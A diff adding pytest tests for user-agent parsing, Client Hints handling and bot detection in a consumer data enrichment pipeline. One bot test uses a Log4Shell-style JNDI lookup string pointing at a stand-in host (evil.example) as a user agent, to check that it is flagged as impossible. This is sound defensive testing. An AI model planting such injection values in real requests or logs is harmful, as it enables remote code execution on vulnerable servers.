@@ -1,0 +1,159 @@
+"""Browser, system, device, and whether it is a person."""
+
+import pytest
+
+from enrich_consumer.core.enrichments import References
+from enrich_consumer.core.parsing.client_hints import read
+from tests.support.records import CHROME, build, record
+
+ENRICH = build(References())
+SAFARI = (
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/18.1 Mobile/15E148 Safari/604.1"
+)
+FIREFOX_TABLET = "Mozilla/5.0 (Android 14; Tablet; rv:132.0) Gecko/132.0 Firefox/132.0"
+FROZEN = CHROME.replace("Windows NT 10.0; Win64; x64", "Linux; Android 10; K")
+
+
+def _row(agent, **headers):
+    return ENRICH(record({}, user_agent=agent, headers=headers))[0]
+
+
+@pytest.mark.parametrize(
+    ("agent", "kind", "browser", "engine", "system"),
+    [
+        (CHROME, "desktop", "Chrome", "Blink", "Windows"),
+        (SAFARI, "mobile", "Mobile Safari", "WebKit", "iOS"),
+        (SAFARI.replace("Version/18.1", "CriOS/142.0"), "mobile", "Chrome Mobile iOS", "WebKit", "iOS"),
+        (SAFARI.replace("iPhone; CPU iPhone", "iPad; CPU"), "tablet", "Mobile Safari", "WebKit", "iOS"),
+        (FIREFOX_TABLET, "tablet", "Firefox Mobile", "Gecko", "Android"),
+        ("Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A)", "mobile", "Android", None, "Android"),
+        ("okhttp/4.12.0", "other", "okhttp", None, None),
+        ("Mozilla/5.0 (PlayStation 5 3.03/SmartTV) AppleWebKit/605.1.15", "console", None, "WebKit", None),
+        (
+            "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 Chrome/94.0.4606.31",
+            "tv",
+            None,
+            "Blink",
+            None,
+        ),
+        (
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            "bot",
+            "Googlebot",
+            None,
+            None,
+        ),
+        (
+            "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
+            "desktop",
+            "IE",
+            "Trident",
+            "Windows",
+        ),
+    ],
+)
+def test_agents(agent, kind, browser, engine, system):
+    row = _row(agent)
+    assert row["device_class"] == kind
+    assert row.get("browser_engine") == engine
+    assert browser is None or row["browser_name"] == browser
+    assert system is None or row["os_name"] == system
+
+
+@pytest.mark.parametrize("agent", ["", None])
+def test_no_agent_costs_nothing_but_its_columns(agent):
+    row = _row(agent)
+    assert row["enrich_errors"] == []
+    assert "user_agent" not in row
+    assert row["bot_reasons"] == ["no_user_agent"]
+
+
+@pytest.mark.parametrize(
+    "agent", ["x" * 100_000, "\0\n\t" * 50, "(" * 512, "日本語" * 200, "Mozilla/5.0 " + "Android " * 3000]
+)
+def test_odd_agents_are_harmless_and_short(agent):
+    row = _row(agent)
+    assert len(row["user_agent"]) <= 512
+    assert row["enrich_errors"] == []
+
+
+def test_client_hints_win():
+    row = _row(
+        FROZEN.replace("Safari", "Mobile Safari"),
+        sec_ch_ua='"Chromium";v="142", "Google Chrome";v="142", "Not_A Brand";v="99"',
+        sec_ch_ua_full_version_list='"Chromium";v="142.0.7444.60", "Google Chrome";v="142.0.7444.60"',
+        sec_ch_ua_mobile="?1",
+        sec_ch_ua_platform='"Android"',
+        sec_ch_ua_platform_version='"15.0.0"',
+        sec_ch_ua_model='"SM-S931B"',
+    )
+    assert (row["browser_name"], row["browser_version"]) == ("Chrome Mobile", "142.0.7444.60")
+    assert (row["os_name"], row["os_version"]) == ("Android", "15")
+    assert (row["device_class"], row["device_model"]) == ("mobile", "SM-S931B")
+
+
+def test_hints_tell_windows_11_and_brands_from_chromium():
+    row = _row(
+        CHROME,
+        sec_ch_ua='"Not;A=Brand";v="8", "Chromium";v="142", "Opera";v="126"',
+        sec_ch_ua_platform='"Windows"',
+        sec_ch_ua_platform_version='"19.0.0"',
+        sec_ch_ua_mobile="?0",
+    )
+    assert (row["browser_name"], row["browser_version"]) == ("Opera", "126")
+    assert (row["os_name"], row["os_version"]) == ("Windows", "11")
+    assert row["device_class"] == "desktop"
+
+
+@pytest.mark.parametrize("text", ["", "?", '"', '";v="1', "x" * 9000, '"A";v="1"' * 500])
+def test_odd_hints_count_as_not_told(text):
+    hints = read((text, text, text, text, text, None))
+    assert hints.browser is None
+    assert hints.mobile is None
+    assert _row(CHROME, sec_ch_ua=text, sec_ch_ua_mobile=text)["browser_name"] == "Chrome"
+
+
+@pytest.mark.parametrize(
+    ("agent", "reasons", "name"),
+    [
+        (CHROME, None, None),
+        (SAFARI, None, None),
+        ("okhttp/4.12.0", None, None),  # what a shop's own Android app sends
+        ("MinhaLoja/3.1 CFNetwork/1568.200.51 Darwin/24.1.0", None, None),
+        (
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            ["crawler"],
+            "Googlebot",
+        ),
+        (
+            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
+            ["crawler", "ai_agent"],
+            "GPTBot",
+        ),
+        ("python-requests/2.32.3", ["http_library"], "python-requests"),
+        ("curl/8.5.0", ["http_library", "impossible_agent"], "curl"),
+        (CHROME.replace("Chrome/", "HeadlessChrome/"), ["headless"], "HeadlessChrome"),
+        ("Mozilla/5.0", ["impossible_agent"], None),
+        (CHROME.replace("142", "999"), ["impossible_agent"], None),
+        (CHROME.replace("Win64", "iPhone"), ["impossible_agent"], None),
+        ("${jndi:ldap://evil.example/a}", ["impossible_agent"], None),
+        ("NovoRobo/1.0 (+https://robo.example/sobre)", ["crawler"], None),
+    ],
+)
+def test_bots(agent, reasons, name):
+    row = _row(agent)
+    assert row.get("bot_reasons") == reasons
+    assert row["is_bot"] is (reasons is not None)
+    assert row.get("bot_name") == name
+
+
+@pytest.mark.parametrize(
+    ("number", "name", "hosting"),
+    [(16509, "AMAZON", True), (28573, "Claro NXT", False), (64500, "Foo Hosting Ltda", True)],
+)
+def test_a_data_centre_is_a_reason_but_no_verdict(number, name, hosting):
+    asn = {"autonomous_system_number": number, "autonomous_system_organization": name}
+    (row,) = build(References(asn=lambda _: asn))(record(ip="192.0.2.1", user_agent=CHROME))
+    assert row.get("bot_reasons") == (["data_centre"] if hosting else None)
+    assert row["is_bot"] is False
